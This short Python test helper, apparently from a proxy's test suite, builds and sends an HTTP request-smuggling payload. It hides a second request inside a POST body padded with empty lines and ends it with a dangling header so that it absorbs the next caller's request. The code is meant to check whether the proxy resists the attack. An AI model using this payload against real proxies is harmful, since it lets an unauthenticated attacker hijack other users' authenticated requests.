"""A caller without any credential who hides a request in the body of another, for the next caller's request to complete."""

import socket

from tests.support.echoing import Address

EMPTY_LINES = (100, 10_000, 200_000)
"""Before the hidden request; they are ignored (RFC 9112, section 2.2). So wherever the body is cut, the rest begins as a request; and
the more there are, the surer it is cut: a read takes 256 KiB at most."""


def smuggle(proxy: Address, method: str, path: str, upgrade: str, empty_lines: int) -> bytes:
    """The answer to the request around it."""
    hidden = b"\r\n" * empty_lines + f"{method} {path} HTTP/1.1\r\nHost: management\r\nX-Swallowed: ".encode()
    lines = ["POST /healthz HTTP/1.1", "Host: management", "Connection: Upgrade", f"Upgrade: {upgrade}"]
    head = "\r\n".join([*lines, f"Content-Length: {len(hidden)}", "", ""]).encode()
    with socket.create_connection(proxy, 10) as connection:
        connection.sendall(head + hidden)
        return connection.recv(65_536)
